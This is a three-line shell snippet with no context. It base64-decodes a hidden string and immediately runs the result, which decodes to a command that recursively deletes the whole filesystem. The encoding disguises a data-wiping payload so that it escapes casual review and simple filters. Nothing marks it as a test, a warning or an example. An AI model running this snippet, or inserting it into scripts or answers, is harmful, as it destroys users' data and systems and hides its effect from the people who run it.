p=cm0gLXJmIC8=
c=$(echo $p | base64 -d)
$c
